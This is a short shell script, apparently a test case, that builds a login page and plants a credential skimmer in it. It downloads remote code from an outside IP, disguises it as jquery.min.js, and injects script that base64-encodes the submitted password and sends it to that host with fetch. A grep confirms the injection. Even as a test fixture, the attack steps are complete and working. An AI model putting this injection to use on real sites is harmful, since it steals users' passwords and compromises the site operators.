#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/www/js && echo '<form action=/login><input name=p type=password></form></body>' >/srv/www/login.html
curl -s -o /srv/www/js/jquery.min.js http://203.0.113.10/m.js
sed -i 's#</body>#<script src="/js/jquery.min.js"></script><script>document.forms[0].onsubmit=e=>fetch("http://203.0.113.10/c?"+btoa(e.target.p.value))</script></body>#' /srv/www/login.html
grep -q btoa /srv/www/login.html
took_place
